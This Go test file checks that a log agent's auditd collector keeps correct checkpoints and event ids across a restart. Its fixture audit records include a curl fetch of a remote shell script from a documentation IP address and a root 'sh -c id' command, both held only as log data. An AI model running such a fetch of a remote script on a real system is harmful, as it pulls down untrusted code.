package agent

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

const (
	auditStart = `type=DAEMON_START msg=audit(1795860000.001:8120): op=start ver=3.1.2 format=raw kernel=6.8.0-49-generic auid=4294967295 pid=712 uid=0 ses=4294967295 subj=unconfined res=success`
	audit1001  = `type=SYSCALL msg=audit(1795860001.117:1001): arch=c000003e syscall=59 success=yes exit=0 a0=55d0 a1=55d1 a2=55d2 a3=8 items=1 ppid=2290 pid=2301 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="curl" exe="/usr/bin/curl" subj=unconfined key="exec"
type=EXECVE msg=audit(1795860001.117:1001): argc=2 a0="curl" a1="http://203.0.113.9/x.sh"
type=PATH msg=audit(1795860001.117:1001): item=0 name="/usr/bin/curl" inode=1837421 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
type=EOE msg=audit(1795860001.117:1001): `
	audit1002a = `type=SYSCALL msg=audit(1795860002.530:1002): arch=c000003e syscall=59 success=yes exit=0 a0=5612 a1=5613 a2=5614 a3=0 items=1 ppid=3290 pid=3291 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=3 comm="sh" exe="/usr/bin/dash" subj=unconfined key="rootcmd"
type=EXECVE msg=audit(1795860002.530:1002): argc=3 a0="sh" a1="-c" a2="id"`
	audit1002b = `type=PATH msg=audit(1795860002.530:1002): item=0 name="/bin/sh" inode=1835045 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL
type=EOE msg=audit(1795860002.530:1002): `
)

// runCollectors runs the file collectors of a fresh agent on state until cond holds,
// then stops them; it returns every record in the spool (acknowledging them).
func runCollectors(t *testing.T, cfg Config, cond func(a *Agent) bool) []map[string]any {
	t.Helper()
	a, err := newAgent(cfg, testLog(t))
	if err != nil {
		t.Fatal(err)
	}
	if err := a.openState(); err != nil {
		t.Fatal(err)
	}
	defer a.spool.Close()
	ctx, cancel := context.WithCancel(context.Background())
	var wg sync.WaitGroup
	wg.Go(func() { a.runFiles(ctx, &wg) })
	eventually(t, 10*time.Second, "the collectors", func() bool { return cond(a) })
	cancel()
	wg.Wait()
	var out []map[string]any
	for {
		b, err := a.spool.Next(1000, 1<<20)
		if err != nil {
			t.Fatal(err)
		}
		if b == nil {
			return out
		}
		for _, r := range b.Records {
			var doc map[string]any
			json.Unmarshal(r, &doc)
			out = append(out, doc)
		}
		a.spool.Ack(b)
	}
}

func spooled(a *Agent) int64 {
	if st := a.status.snapshot(a.spool.Stats()).Sources["file:"+a.cfg.Auditd.Path]; st != nil {
		return st.Events
	}
	return 0
}

// TestAuditEventsAcrossRestart checks the audit log's checkpoint: an event whose records
// are still arriving when the agent stops is neither lost nor cut in two, and events
// read again after the restart keep their ids (the server keeps them once).
func TestAuditEventsAcrossRestart(t *testing.T) {
	dir := t.TempDir()
	auditLog := filepath.Join(dir, "audit.log")
	os.WriteFile(auditLog, []byte(auditStart+"\n"+audit1001+"\n"+audit1002a+"\n"), 0o600)
	cfg := testConfig(t, "http://127.0.0.1:1", filepath.Join(dir, "state"))
	cfg.Auditd = Auditd{Enabled: true, Path: auditLog}
	cfg.auditIdle = time.Hour // event 1002 stays open while the agent runs

	first := runCollectors(t, cfg, func(a *Agent) bool { return spooled(a) == 2 })
	checkpoint := func() int64 {
		var cp struct{ Offset int64 }
		b, _ := os.ReadFile(filepath.Join(cfg.StateDir, checkpointsDir, fileCheckpointName(auditLog)))
		json.Unmarshal(b, &cp)
		return cp.Offset
	}
	if off := checkpoint(); off != 0 {
		t.Errorf("checkpoint at %d while an audit event was open; want the start of what the parser holds", off)
	}

	// The rest of event 1002 arrives while the agent is stopped.
	f, _ := os.OpenFile(auditLog, os.O_WRONLY|os.O_APPEND, 0)
	f.WriteString(audit1002b + "\n")
	f.Close()
	cfg.auditIdle = 50 * time.Millisecond // now let the idle flush move the checkpoint
	fi, _ := os.Stat(auditLog)
	second := runCollectors(t, cfg, func(a *Agent) bool { return checkpoint() == fi.Size() })

	ids := map[string]int{}
	var e1002 map[string]any
	for _, ev := range append(first, second...) {
		id := ev["event"].(map[string]any)["id"].(string)
		ids[id]++
		if strings.Contains(ev["message"].(string), ":1002)") {
			e1002 = ev
		}
	}
	if len(first) != 2 || len(second) != 3 || len(ids) != 3 {
		t.Fatalf("first run %d events, second %d, %d distinct ids; want 2, 3 (two read again) and 3", len(first), len(second), len(ids))
	}
	for id, n := range ids {
		if n != 1 && n != 2 {
			t.Errorf("id %s seen %d times", id, n)
		}
	}
	types, _ := json.Marshal(e1002["auditd"].(map[string]any)["types"])
	if string(types) != `["SYSCALL","EXECVE","PATH","EOE"]` {
		t.Errorf("event 1002 has records %s, want all four in one event", types)
	}
}
